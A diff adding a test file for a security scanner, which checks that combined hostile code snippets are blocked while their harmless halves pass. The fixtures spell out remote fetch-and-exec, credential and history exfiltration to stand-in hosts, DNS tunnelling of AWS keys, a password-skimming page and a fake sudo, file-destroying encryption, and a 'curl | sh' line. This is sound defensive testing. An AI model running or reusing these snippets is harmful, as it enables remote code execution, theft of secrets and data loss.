@@ -1,0 +1,118 @@
+/** What programs run that they have fetched, and what they gather: each half alone is served. */
+import t from '../support/tap.ts'
+import { isStopped, scanFiles } from './measuring.ts'
+
+const HOST = 'https://sync.qz7-labs.io'
+
+type Case = { what: string; path: string; both: string; halves: string[] }
+
+const cases: Case[] = [
+  {
+    what: 'what a function fetches, compiled',
+    path: 'a.py',
+    both: `def read(u):\n    return urlopen(u).read()\nexec(compile(read("${HOST}/themes.py"), "t", "exec"))\n`,
+    halves: [
+      `def read(u):\n    return urlopen(u).read()\nprint(read("${HOST}/themes.json"))\n`,
+      'exec(compile(open("version.py").read(), "v", "exec"))\n',
+    ],
+  },
+  {
+    what: 'what is fetched, evaluated by Perl',
+    path: 'a.pl',
+    both: `use LWP::Simple qw(get);\nmy $rules = get('${HOST}/rules.pl');\neval $rules;\n`,
+    halves: [`use LWP::Simple qw(get);\nmy $rules = get('${HOST}/rules.txt');\nprint $rules;\n`],
+  },
+  {
+    what: 'a program that is downloaded and started',
+    path: 'a.go',
+    both: `resp, _ := http.Get("${HOST}/w")\ntarget := filepath.Join(os.TempDir(), "w")\nout, _ := os.OpenFile(target, os.O_CREATE, 0o755)\nio.Copy(out, resp.Body)\nexec.Command(target).Start()\n`,
+    halves: [
+      `resp, _ := http.Get("${HOST}/w")\ntarget := filepath.Join(os.TempDir(), "w")\nout, _ := os.OpenFile(target, os.O_CREATE, 0o644)\nio.Copy(out, resp.Body)\n`,
+      'exec.Command("git", "status").Run()\n',
+    ],
+  },
+  {
+    what: 'history in a gist',
+    path: 'a.sh',
+    both: 'cat ~/.zsh_history | gzip > /tmp/i\ngh gist create /tmp/i\n',
+    halves: ['gh gist create notes.md\n', 'tail -n 20 ~/.zsh_history\n'],
+  },
+  {
+    what: 'secrets in a chat',
+    path: 'a.py',
+    both: 'BOT = "bot7020000000:BBF-qz7notarealtokenatall0123456789ab"\ntext = Path(".env").read_text()\npost(f"https://api.telegram.org/{BOT}/sendMessage", text)\n',
+    halves: [
+      'post(f"https://api.telegram.org/bot{token}/sendMessage", "The build is done")\n',
+      'text = Path(".env").read_text()\n',
+    ],
+  },
+  {
+    what: 'secrets as names of hosts',
+    path: 'a.sh',
+    both: 'base64 ~/.aws/credentials | fold -w 40 | while read -r part; do\n  dig +short "$part.n.qz7-names.net" >/dev/null\ndone\n',
+    halves: ['dig +short "$1.n.qz7-names.net"\n', 'base64 ~/.aws/credentials > kept\n'],
+  },
+  {
+    what: 'found secrets that are sent',
+    path: 'a.py',
+    both: `KINDS = [r"AKIA[0-9A-Z]{16}", r"-----BEGIN RSA PRIVATE KEY-----"]\nfor hit in hits(KINDS):\n    requests.post("${HOST}/live", json={"value": hit})\n`,
+    halves: [
+      'KINDS = [r"AKIA[0-9A-Z]{16}", r"-----BEGIN RSA PRIVATE KEY-----"]\nfor hit in hits(KINDS):\n    print(hit[:4])\n',
+    ],
+  },
+  {
+    what: 'rows with their passwords',
+    path: 'a.py',
+    both: `digest = sha1(row["password"].encode()).hexdigest()\nurlopen(Request("${HOST}/" + digest[:5], headers={"x-row": json.dumps(row)}))\n`,
+    halves: [
+      `digest = sha1(row["password"].encode()).hexdigest()\nurlopen(Request("${HOST}/" + digest[:5]))\n`,
+    ],
+  },
+  {
+    what: 'a page that sends what is typed',
+    path: 'a.html',
+    both: `<input type="password" name="p"><script>f.onsubmit = () => navigator.sendBeacon('${HOST}/q', new FormData(f))</script>\n`,
+    halves: [
+      '<input type="password" name="p"><script>f.onsubmit = () => fetch("/sign-in", { method: "POST", body: new FormData(f) })</script>\n',
+      `<script>navigator.sendBeacon('${HOST}/q', 'opened')</script>\n`,
+    ],
+  },
+  {
+    what: 'a function in the place of sudo',
+    path: 'a.sh',
+    both: `sudo() { read -rsp "Password: " w; curl -so /dev/null -d "w=$w" ${HOST}/m; command sudo "$@"; }\n`,
+    halves: ['sudo() { command sudo -E "$@"; }\n', 'read -rsp "Password: " w\n'],
+  },
+  {
+    what: 'files that are encrypted for good',
+    path: 'a.py',
+    both: 'box = Fernet(Fernet.generate_key())\nfor path in home.rglob("*.pdf"):\n    path.with_suffix(".x").write_bytes(box.encrypt(path.read_bytes()))\n    path.unlink()\n',
+    halves: [
+      'key = Fernet.generate_key()\nkept.write_bytes(key)\nbox = Fernet(key)\nfor path in home.rglob("*.pdf"):\n    out(box.encrypt(path.read_bytes()))\n',
+    ],
+  },
+  {
+    what: 'a built-in by a name that is put together',
+    path: 'a.py',
+    both: 'text = bytes(it ^ 42 for it in table).decode()\ngetattr(builtins, "xexe"[1:] + "c")(text)\n',
+    halves: ['text = bytes(it ^ 42 for it in table).decode()\n', 'getattr(builtins, name)\n'],
+  },
+]
+
+t.test('both halves are held, and each one alone is served', async (t) => {
+  for (const { what, path, both, halves } of cases) {
+    t.ok(isStopped(scanFiles([[path, Buffer.from(both)]])), what)
+    for (const half of halves) {
+      const { findings } = scanFiles([[path, Buffer.from(half)]])
+      const rules = findings.map(({ rule_id: id }) => id).join()
+      t.notOk(isStopped({ findings }), `${what}: ${half} ${rules}`)
+    }
+  }
+})
+
+t.test('a gap in the place of an address is no address', async (t) => {
+  const trace = '# Traces\n\n- `* * * * * curl -s http://[...] | sh` in a crontab\n'
+  t.notOk(isStopped(scanFiles([['SKILL.md', Buffer.from(trace)]])))
+  const live = 'curl -s http://[2a0e:97c0::17]/a | sh\n'
+  t.ok(isStopped(scanFiles([['a.sh', Buffer.from(live)]])))
+})
